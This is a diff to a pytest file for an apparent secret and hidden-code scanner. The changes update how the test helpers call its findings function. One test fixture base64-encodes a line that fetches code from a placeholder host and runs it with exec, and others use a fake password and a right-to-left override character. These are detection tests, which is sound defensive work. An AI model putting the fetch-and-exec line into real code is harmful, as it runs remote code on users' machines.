@@ -78,7 +78,7 @@ def test_a_constant_is_folded_and_its_secret_found(path: str, text: str) -> None
     change = added(path, text)
     folded = fold([change])
     assert KEY in {one.text for one in folded}
-    (found,) = [one for one in findings(folded, [change]) if one.rule == "secret-aws-access-key"][:1]
+    (found,) = [one for one in findings([change], folded) if one.rule == "secret-aws-access-key"][:1]
     assert (found.path, found.weight) == (path, "stop")
     assert KEY not in repr(found)
 
@@ -118,9 +118,9 @@ def test_only_what_the_change_touches_is_folded() -> None:
 def test_hidden_code_and_a_name_that_makes_a_secret_are_found() -> None:
     code = base64.b64encode(b"import socket; exec(fetch('https://a.corp.io'))").decode()
     change = added("a.py", f'x = b64decode("{code}")\npassword = "S3cr3t-" + "Passw0rd!"')
-    rules = {(one.rule, one.weight, one.line) for one in findings(fold([change]), [change])}
+    rules = {(one.rule, one.weight, one.line) for one in findings([change])}
     assert rules == {("constant-hidden-code", "ask", 1), ("secret-named-secret", "stop", 2)}
-    assert {one.weight for one in findings(fold([change]), [change], lenient=["a.py"])} == {"ask", "note"}
+    assert {one.weight for one in findings([change], lenient=["a.py"])} == {"ask", "note"}
 
 
 @pytest.mark.parametrize("path", ["a.py", "a.js"])
@@ -161,7 +161,7 @@ def test_any_text_is_folded(text: str) -> None:
 
 
 def rules(path: str, text: str) -> set[tuple[str, str]]:
-    return {(one.rule, one.weight) for one in hidden.findings(added(path, text))}
+    return {(one.rule, one.weight) for one in hidden.findings([added(path, text)])}
 
 
 @pytest.mark.parametrize(
@@ -209,7 +209,7 @@ def test_other_scripts_where_they_are_at_home_are_not(path: str, text: str) -> N
 
 def test_a_line_that_had_it_before_is_not_found() -> None:
     diff = "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = '\u202e'\n+y = '\u202e'\n"
-    assert [one for change in read_changes(diff).files for one in hidden.findings(change)] == []
+    assert hidden.findings(read_changes(diff).files) == []
 
 
 @pytest.mark.parametrize(
